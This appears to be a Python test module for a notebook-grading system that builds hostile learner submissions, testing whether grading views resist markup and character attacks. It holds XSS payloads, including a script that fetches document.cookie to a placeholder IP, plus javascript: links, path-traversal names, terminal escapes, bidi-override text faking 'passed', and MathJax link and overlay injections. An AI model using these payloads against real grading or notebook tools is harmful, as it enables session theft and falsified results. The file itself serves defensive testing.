"""Attacks on whoever reads: markup and control characters in answers, outputs, names and messages."""

from tests.course.grading.hostile import attack

SCRIPT = "<script>fetch('http://192.0.2.1/' + document.cookie)</script><img src=x onerror=alert(1)>"


@attack
def a_script_in_an_answer(nb):
    """Puts a script, an event handler and a javascript: link into the short answer, for the instructor's browser."""
    nb.cell("why")["source"] = f"Because. {SCRIPT} [me](javascript:alert(1)) <iframe src=//192.0.2.1></iframe>"


@attack
def a_script_in_outputs(nb):
    """Brings HTML, JavaScript and widget outputs: the learner's outputs are dropped."""
    nb.wrong()
    data = {"text/html": SCRIPT, "application/javascript": "alert(1)", "image/svg+xml": f"<svg>{SCRIPT}</svg>"}
    for cell in nb.document["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


@attack
def a_script_in_a_message(nb):
    """Raises, prints and warns markup, which is quoted in the message."""
    nb.count(f"import warnings\nprint({SCRIPT!r})\nwarnings.warn({SCRIPT!r})\nraise ValueError({SCRIPT!r})")


@attack
def a_script_in_a_name(nb):
    """Returns an object whose type's name is markup."""
    nb.count(f"return type({SCRIPT!r}, (), {{}})()")


@attack
def a_script_in_a_returned_text(nb):
    """Returns markup as a value and as a dict's keys."""
    nb.count(f"return {SCRIPT!r}")
    nb.correlate(f"return {{{SCRIPT!r}: {SCRIPT!r}}}")


@attack
def control_characters(nb):
    """Puts terminal commands, NUL, half characters and turned text into a message."""
    nb.count(r"raise ValueError('\x1b[2J\x1b]0;owned\x07 \0 \ud800 \u202epassed\u202c \r passed: all')")


@attack
def pictures_that_are_none(nb):
    """Attaches an SVG with a script and a file with a path for a name to the answer."""
    nb.cell("why")["source"] = "![see](attachment:x.svg)"
    nb.cell("why")["attachments"] = {
        "x.svg": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"},
        "../../evil": {"text/html": SCRIPT},
    }


@attack
def markup_in_ids(nb):
    """Puts markup and paths into cell ids, grade_ids, tags and the notebook's metadata."""
    nb.wrong()
    nb.document["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {SCRIPT: SCRIPT}}
    for k, cell in enumerate(nb.document["cells"]):
        cell["id"] = f"{k}{SCRIPT}"
        cell["metadata"]["tags"] = [SCRIPT]
    nb.cell("why")["metadata"]["nbgrader"]["grade_id"] = "../../" + SCRIPT


@attack
def html_display_methods(nb):
    """Returns objects with _repr_html_, _ipython_display_ and _render_traceback_."""
    nb.count(
        "return Shown()",
        f"""
        class Shown:
            def _repr_html_(self): return {SCRIPT!r}
            def _ipython_display_(self): print({SCRIPT!r})
            _render_traceback_ = _repr_html_
    """,
    )


def formula(nb, tex):
    nb.cell("why")["source"] = (
        f"Because ${tex}$.\n\n$${tex}$$\n\n\\\\({tex}\\\\) and \\begin{{align}} {tex} \\end{{align}}"
    )


@attack
def links_in_formulas(nb):
    """Makes links by MathJax in the short answer: \\href, \\url, javascript: and data: among them."""
    formula(nb, r"\href{javascript:alert(1)}{x} \url{https://192.0.2.1} \href{data:text/html,x}{y}")


@attack
def styles_in_formulas(nb):
    """Styles formulas so that they lie over the page: \\style, \\class, \\cssId, \\bbox, \\mmlToken, \\kern."""
    formula(
        nb,
        r"\style{position:fixed;inset:0}{x} \class{btn}{y} \cssId{a}{z} \bbox[red]{u} "
        r"\mmlToken{mi}[style='position:fixed']{v} \kern-999em \rule{99em}{99em} \unicode[x]{65}",
    )


@attack
def commands_made_in_formulas(nb):
    """Makes MathJax's commands by other names and loads its extensions: \\def, \\let, \\newcommand, \\require."""
    formula(
        nb,
        r"\require{html} \def\a#1{\href{javascript:alert(1)}{#1}} \a{x} \let\b\href \b{//192.0.2.1}{y} "
        r"\newcommand{\c}{\style{position:fixed}} \c{z}",
    )


@attack
def formulas_spelled_out(nb):
    """Writes a formula's marks and commands as character references, by which Markdown does not know them."""
    nb.cell("why")["source"] = "&#36;&#92;href{javascript:alert(1)}{x}&#36; &#92;(&#92;style{position:fixed}{y}&#92;)"
